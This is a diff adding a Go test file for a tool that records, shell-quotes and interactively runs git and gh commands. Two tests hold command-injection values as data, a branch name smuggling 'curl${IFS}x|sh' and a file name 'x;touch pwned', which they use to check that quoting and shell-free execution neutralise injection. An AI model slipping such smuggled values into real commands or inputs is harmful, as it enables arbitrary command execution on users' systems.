@@ -0,0 +1,160 @@
+package actions
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestWriteRead(t *testing.T) {
+	in := []Action{
+		{Tool: "git-explain", Repo: "/src/app", Action: "Push", Command: "git push", Severity: SeverityWarning, Dir: "/src/app"},
+		{Tool: "gh-wtfork", Repo: "me/tool", Action: "Sync", Command: "gh repo sync me/tool", Severity: SeverityInfo},
+	}
+	var buf bytes.Buffer
+	require.NoError(t, Write(&buf, in))
+	assert.Contains(t, buf.String(), `"tool": "git-explain"`)
+	assert.NotContains(t, buf.String(), `"dir": ""`)
+
+	out, err := Read(&buf)
+	require.NoError(t, err)
+	assert.Equal(t, in, out)
+}
+
+func TestWrite_Empty(t *testing.T) {
+	var buf bytes.Buffer
+	require.NoError(t, Write(&buf, nil))
+	assert.Equal(t, "[]\n", buf.String())
+}
+
+func TestRead_Invalid(t *testing.T) {
+	tests := []struct {
+		name, in, wantErr string
+	}{
+		{"not json", `{`, "reading actions"},
+		{"no command", `[{"action":"Push","command":" "}]`, "action 1 (Push): no command"},
+		{"bad severity", `[{"command":"true","severity":"urgent"}]`, `unknown severity "urgent"`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := Read(strings.NewReader(tt.in))
+			assert.ErrorContains(t, err, tt.wantErr)
+		})
+	}
+
+	items, err := Read(strings.NewReader(`[{"command":"true"}]`))
+	require.NoError(t, err)
+	assert.Equal(t, SeverityInfo, items[0].Severity, "severity defaults to info")
+}
+
+func TestJoin(t *testing.T) {
+	assert.Equal(t, "gh repo sync me/tool", Join([]string{"gh", "repo", "sync", "me/tool"}))
+	assert.Equal(t, "git pull upstream 'main;curl${IFS}x|sh'", Join([]string{"git", "pull", "upstream", "main;curl${IFS}x|sh"}))
+	assert.Equal(t, `git branch -d 'it'\''s' ''`, Join([]string{"git", "branch", "-d", "it's", ""}))
+}
+
+func TestApply(t *testing.T) {
+	dir := t.TempDir()
+	items := []Action{
+		{Action: "first", Command: "touch one", Dir: dir},
+		{Action: "skipped", Command: "touch two", Dir: dir},
+		{Action: "fails", Command: "exit 3", Dir: dir},
+		{Action: "rest", Command: "touch four", Dir: dir},
+		{Action: "rest too", Command: "touch five", Dir: dir},
+	}
+	var out bytes.Buffer
+	res, err := Apply(context.Background(), items, ApplyOptions{In: strings.NewReader("y\nn\ny\na\n"), Out: &out})
+	require.NoError(t, err)
+	assert.Equal(t, Result{Ran: 3, Skipped: 1, Failed: 1}, res)
+	assert.Contains(t, out.String(), "[3/5] fails")
+	assert.Contains(t, out.String(), "exit status 3")
+
+	for name, exists := range map[string]bool{"one": true, "two": false, "four": true, "five": true} {
+		_, err := os.Stat(filepath.Join(dir, name))
+		assert.Equal(t, exists, err == nil, name)
+	}
+}
+
+func TestApply_Args(t *testing.T) {
+	dir := t.TempDir()
+	// Args run without a shell: the name is one argument, not a command
+	name := "x;touch pwned"
+	items := []Action{{Action: "create", Command: "ignored", Args: []string{"touch", name}, Dir: dir}}
+	var out bytes.Buffer
+	res, err := Apply(context.Background(), items, ApplyOptions{Yes: true, Out: &out})
+	require.NoError(t, err)
+	assert.Equal(t, 1, res.Ran)
+	assert.Contains(t, out.String(), "$ touch 'x;touch pwned'")
+	assert.FileExists(t, filepath.Join(dir, name))
+	assert.NoFileExists(t, filepath.Join(dir, "pwned"))
+
+	read, err := Read(strings.NewReader(`[{"args":["git","push"]}]`))
+	require.NoError(t, err)
+	assert.Equal(t, []string{"git", "push"}, read[0].Args, "args stand in for the command")
+}
+
+func TestRead_EditedCommand(t *testing.T) {
+	read, err := Read(strings.NewReader(`[
+		{"command":"git push","args":["git","push"]},
+		{"command":"git push --force-with-lease","args":["git","push"]}
+	]`))
+	require.NoError(t, err)
+	assert.Equal(t, []string{"git", "push"}, read[0].Args, "an unedited command keeps its args")
+	assert.Nil(t, read[1].Args, "an edited command runs instead of the args")
+	assert.Equal(t, "git push --force-with-lease", read[1].Command)
+}
+
+func TestSummarize(t *testing.T) {
+	tests := []struct {
+		name    string
+		res     Result
+		err     error
+		wantErr string
+	}{
+		{"all ran", Result{Ran: 2}, nil, ""},
+		{"quit", Result{Ran: 1, Skipped: 1}, ErrQuit, ""},
+		{"failed", Result{Ran: 2, Failed: 1}, nil, "1 command(s) failed"},
+		{"quit after a failure", Result{Failed: 1}, ErrQuit, "1 command(s) failed"},
+		{"other error", Result{}, errors.New("boom"), "boom"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var out bytes.Buffer
+			err := Summarize(&out, tt.res, tt.err)
+			if tt.wantErr == "" {
+				assert.NoError(t, err)
+			} else {
+				assert.EqualError(t, err, tt.wantErr)
+			}
+			assert.Equal(t, fmt.Sprintf("\nRan %d, skipped %d, failed %d\n", tt.res.Ran, tt.res.Skipped, tt.res.Failed), out.String())
+		})
+	}
+}
+
+func TestApply_Quit(t *testing.T) {
+	items := []Action{{Action: "a", Command: "true"}, {Action: "b", Command: "true"}}
+	res, err := Apply(context.Background(), items, ApplyOptions{In: strings.NewReader("q\n"), Out: &bytes.Buffer{}})
+	assert.ErrorIs(t, err, ErrQuit)
+	assert.Equal(t, Result{}, res)
+
+	res, err = Apply(context.Background(), items, ApplyOptions{In: strings.NewReader(""), Out: &bytes.Buffer{}})
+	assert.ErrorIs(t, err, ErrQuit, "running out of answers stops")
+	assert.Equal(t, Result{}, res)
+}
+
+func TestApply_Yes(t *testing.T) {
+	items := []Action{{Action: "a", Command: "true"}, {Action: "b", Command: "true"}}
+	var out bytes.Buffer
+	res, err := Apply(context.Background(), items, ApplyOptions{Yes: true, In: strings.NewReader(""), Out: &out})
+	require.NoError(t, err)
+	assert.Equal(t, 2, res.Ran)
+	assert.NotContains(t, out.String(), "Run it?")
+}